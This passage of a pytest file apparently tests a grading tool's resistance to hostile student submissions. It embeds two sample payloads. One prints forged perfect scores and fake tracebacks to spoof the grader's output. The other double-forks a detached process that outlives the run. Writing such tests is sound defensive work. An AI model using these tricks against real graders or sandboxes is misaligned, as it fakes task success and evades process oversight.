    assert len(runs["json"].stdout) < 100_000


class SimpleResult:
    """A JSON-report submission seen as math_score() sees a SubmissionResult."""

    def __init__(self, data: dict) -> None:
        from types import SimpleNamespace

        self.parts = [SimpleNamespace(exercise=p["exercise"], score=p["score"]) for p in data["parts"]]


FAKE_RESULTS = '''
import os, sys
print("fake-student (submission.toml): 100 / 100")
print('[{"student": "fake-student", "score": 100, "max_score": 100}]')
sys.stderr.write("honest (submission.toml): 0 / 7\\n")
for _fd in (1, 2):
    os.write(_fd, b'\\n{"score": 100, "tests": []}\\nTraceback (most recent call last):\\n')
'''

SLEEPER = '''
import os, time
if os.fork() == 0:  # a grandchild in a session of its own, asleep long after the run
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
'''


def test_printed_fake_results_and_a_sleeper_left_behind_change_nothing(tmp_path, sandbox):
    batch = tmp_path / "batch"
    student(batch / "honest", "honest", MATH + POWER, {"power_iteration.py": REFERENCE["power_iteration"]})
    student(batch / "faker", "faker", MATH + POWER, {"power_iteration.py": FAKE_RESULTS + REFERENCE["power_iteration"]})
    student(batch / "sleeper", "sleeper", MATH + POWER, {"power_iteration.py": SLEEPER + REFERENCE["power_iteration"]})
    student(batch / "sleeper-exit", "sleeper-exit", MATH + POWER, {"power_iteration.py": SLEEPER + "os._exit(0)\n"})
    from mcalc_tutor.grading.runner import processes_with

    before = set(processes_with("mcalc-run-"))
    runs = {fmt: subprocess.run([*CLI, "grade", str(batch), "--format", fmt, "--jobs", "2"], capture_output=True,
                                text=True, timeout=120, env=_cli_env(sandbox)) for fmt in ("json", "text", "csv")}
    for run in runs.values():
        assert run.returncode == 0 and "Traceback" not in run.stderr and "fake-student" not in run.stderr, run.stderr
    results = {r["student"]: r for r in json.loads(runs["json"].stdout)}  # stdout is still the grader's JSON
    assert sorted(results) == ["faker", "honest", "sleeper", "sleeper-exit"]
    headlines = [line for line in runs["text"].stdout.splitlines() if line and not line.startswith(" ")]
    assert [line.split(" ")[0] for line in headlines] == ["faker", "honest", "sleeper", "sleeper-exit"]
    assert "fake-student" not in runs["csv"].stdout and len(runs["csv"].stdout.splitlines()) == 5
    for name in results:
        assert math_score(SimpleResult(results[name])) == MATH_POINTS
    code = {name: next(p for p in r["parts"] if p["exercise"] == "code-power-iteration") for name, r in results.items()}
    for name in ("honest", "faker"):  # printing is not cheating: the code is right, and only that counts
        assert (code[name]["status"], code[name]["score"]) == (("correct", 2) if sandbox == "bwrap" else (NOT_GRADED, 0))
    for name in ("sleeper", "sleeper-exit"):
        assert code[name]["score"] == 0
    leftovers = set(processes_with("mcalc-run-")) - before
    deadline = time.monotonic() + 12
    while leftovers and time.monotonic() < deadline:
        time.sleep(0.5)
        leftovers &= set(processes_with("mcalc-run-"))
    assert not leftovers, "a sleeper outlived the batch"
